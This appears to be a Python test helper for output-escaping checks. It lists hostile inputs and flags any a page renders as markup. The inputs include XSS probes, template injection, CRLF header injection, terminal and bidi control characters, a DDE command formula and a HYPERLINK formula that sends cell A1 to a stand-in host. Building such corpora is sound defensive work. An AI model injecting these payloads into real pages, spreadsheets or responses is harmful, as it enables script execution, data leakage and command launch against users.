"""Texts that attack who reads them, and how to see that a page let one through."""

import re
from html.parser import HTMLParser

# Each leaves a mark if it is taken for markup: an element or an attribute of this name.
MARK = "data-hostile"
CORPUS = {
    "script": f"<script {MARK}>alert(1)</script>",
    "svg": f"<svg {MARK} onload=alert(1)><animate onbegin=alert(1)></svg>",
    "picture": f"<img {MARK} src=x onerror=alert(1)>",
    "double quotes": f'" {MARK} autofocus onfocus=alert(1) x="',
    "single quotes": f"' {MARK} autofocus onfocus=alert(1) x='",
    "end of a script": f"</script><b {MARK}>",
    "end of a field": f"</textarea></title></style><b {MARK}>",
    "end of a comment": f"--><b {MARK}>",
    "link": "[here](javascript:alert(1)) <javascript:alert(1)> ![x](data:text/html,x)",
    "bare link": "javascript:alert(1)//",
    "template": "{{ 7|add:35001 }}{% now 'Y' %}{% include 'admin/login.html' %}${7*5001}",
    "terminal": "\x1b[31mred\x1b[0m\x1b]0;title\x07\x9b31m",
    "unseen": "a\u200bb\u2060c\ufeffd\U000e0041",
    "turned": "\u202eevil\u202c \u2066isolated",
    "formula": '=HYPERLINK("http://example.invalid/?"&A1,"here")',
    "command": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd",
    "surrogates": "\U0001f9e8\u0301" + "Z\u0351\u036b" * 30,
    "entity": "&lt;b&gt; &amp;amp; &#x202e;",
    "header": "a\r\nSet-Cookie: hostile=1\r\n\r\n<b data-hostile>",
}
ALL = "\n".join(CORPUS.values())
# What a template that was filled in twice would have made of one of them.
FILLED = re.compile("35008|35007")


class _Looker(HTMLParser):
    """What a browser would take for markup that is not ours."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        bad = [name for name in given if name == MARK or name.startswith("on") or name == "style"]
        for name in ("href", "src", "action", "formaction", "hx-get", "hx-post"):
            place = re.sub(r"[\x00-\x20]", "", given.get(name) or "").lower()
            if place.startswith(("javascript:", "data:", "vbscript:")) and tag != "img":
                bad.append(f"{name}={place[:40]}")
        if tag == "script" and not (
            {"src", "nonce"} & set(given) or "json" in given.get("type", "")
        ):
            bad.append("no nonce")
        self.found += [f"<{tag}> {one}" for one in bad]


def taken_for_markup(page: str) -> list[str]:
    """What of the texts has become part of a page; nothing if all of it is shown as text."""
    looker = _Looker()
    looker.feed(page)
    looker.close()
    return looker.found + [f"filled in: {one}" for one in FILLED.findall(page)]
